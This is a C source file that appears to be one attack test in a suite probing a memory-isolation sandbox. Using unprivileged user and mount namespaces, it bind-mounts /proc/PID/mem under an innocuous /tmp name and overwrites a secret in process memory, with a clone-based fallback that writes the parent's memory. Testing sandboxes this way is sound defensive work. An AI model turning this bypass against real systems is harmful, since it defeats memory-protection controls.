/* SPDX-License-Identifier: MIT */
/* atk_userns_mount.c: rename /proc/PID/mem with a bind mount.  Untrusted
 * code enters a user and mount namespace of its own (no privilege needed
 * where the host allows unprivileged user namespaces), bind-mounts its
 * memory file over an ordinary file in /tmp and writes the secret through
 * that name, which ends in no "/mem".  Tried with unshare() and, should
 * that be refused, with clone(CLONE_NEWUSER | CLONE_NEWNS), whose child
 * writes its parent's memory.  Erim-tem refuses the namespaces (and would
 * recognise the file by identity anyway: see native_bindmem in
 * native_tem.sh). */
#include <fcntl.h>
#include <sched.h>
#include <sys/mount.h>

#include "atk_common.h"

static int write_file(const char *path, const char *s)
{
	int fd = open(path, O_WRONLY), ok;

	if (fd < 0)
		return -1;
	ok = write(fd, s, strlen(s)) == (ssize_t)strlen(s);
	close(fd);
	return ok ? 0 : -1;
}

/* In the new namespaces: map our ids, bind TARGET's mem over a file, write. */
static int bind_and_write(pid_t target, uid_t uid, gid_t gid)
{
	char map[64], mem[64], over[64];
	const char evil[8] = "EVILEVIL";
	int fd, won = 0;

	snprintf(map, sizeof map, "0 %u 1", (unsigned)uid);
	write_file("/proc/self/uid_map", map);
	write_file("/proc/self/setgroups", "deny");
	snprintf(map, sizeof map, "0 %u 1", (unsigned)gid);
	write_file("/proc/self/gid_map", map);
	snprintf(mem, sizeof mem, "/proc/%d/mem", (int)target);
	snprintf(over, sizeof over, "/tmp/atk_userns_mount.%d", (int)getpid());
	if ((fd = open(over, O_CREAT | O_RDWR, 0600)) >= 0)
		close(fd);
	if (mount(mem, over, NULL, MS_BIND, NULL) != 0) {
		atk_say("bind mount of %s over %s: %s", mem, over, strerror(errno));
		unlink(over);
		return 0;
	}
	fd = open(over, O_RDWR);
	if (fd >= 0 && pwrite(fd, evil, sizeof evil, (off_t)(uintptr_t)atk_secret) == (ssize_t)sizeof evil) {
		atk_say("wrote the secret through the bind mount %s", over);
		won = 1;
	} else {
		atk_say("write through %s: %s", over, strerror(errno));
	}
	if (fd >= 0)
		close(fd);
	umount2(over, MNT_DETACH);
	unlink(over);
	return won;
}

static enum atk_result atk_attack(void)
{
	uid_t uid = getuid();
	gid_t gid = getgid();
	pid_t me = getpid(), ch;
	int st, tried = 0, refused = 0;

	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0)
		return bind_and_write(me, uid, gid) ? ATK_SUCCEEDED : ATK_REFUSED;
	atk_say("unshare(CLONE_NEWUSER | CLONE_NEWNS): %s", strerror(errno));
	tried++;
	refused += errno == EPERM;
	fflush(stdout);
	ch = (pid_t)syscall(SYS_clone, (unsigned long)(CLONE_NEWUSER | CLONE_NEWNS | SIGCHLD), 0L, 0L, 0L, 0L);
	if (ch == 0)
		_exit(bind_and_write(me, uid, gid));
	if (ch > 0) {
		if (waitpid(ch, &st, 0) != ch)
			return ATK_ERROR;
		return (WIFEXITED(st) && WEXITSTATUS(st) == 1) || !atk_secret_intact() ? ATK_SUCCEEDED : ATK_REFUSED;
	}
	atk_say("clone(CLONE_NEWUSER | CLONE_NEWNS): %s", strerror(errno));
	tried++;
	refused += errno == EPERM;
	if (atk_under_tem)
		return ATK_REFUSED;
	return refused == tried ? ATK_NA : ATK_ERROR;   /* the host forbids user namespaces */
}

static const char *atk_name = "atk_userns_mount";
static int atk_needs_pku = 0;
